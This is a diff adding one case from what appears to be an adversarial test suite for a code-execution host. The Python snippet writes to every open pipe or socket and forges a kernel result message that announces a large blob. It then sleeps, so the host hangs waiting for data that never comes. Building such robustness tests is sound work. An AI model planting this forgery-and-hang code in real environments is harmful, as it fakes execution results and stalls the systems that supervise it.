@@ -1,0 +1,34 @@
+# id: 422
+# name: blob_that_never_comes
+# category: protocol
+# technique: a blob is announced, and the worker goes to sleep
+# breach: hang
+# looks_like: the host waits for ever
+# baseline: credulous
+import os, stat
+
+
+def spray(data):
+    """To whatever leads out of this process."""
+    for fd in range(64):
+        try:
+            if stat.S_ISFIFO(os.fstat(fd).st_mode) or stat.S_ISSOCK(os.fstat(fd).st_mode):
+                os.write(fd, data)
+        except OSError:
+            pass
+
+
+def message(text, *blobs):
+    header = text.encode()
+    return len(header).to_bytes(4, 'big') + header + b''.join(blobs)
+
+
+def done(value, *blobs):
+    """The end of this snippet, forged, with a value in the kernel's own notation."""
+    sizes = ',"blobs":%s' % [len(blob) for blob in blobs] if blobs else ''
+    return message(RESULT_TMPL.replace('@@', value)[:-1] + sizes + '}', *blobs)
+
+
+import time
+spray(message(RESULT_TMPL.replace('@@', '1')[:-1] + ', "blobs": [3000000]}'))
+time.sleep(40)
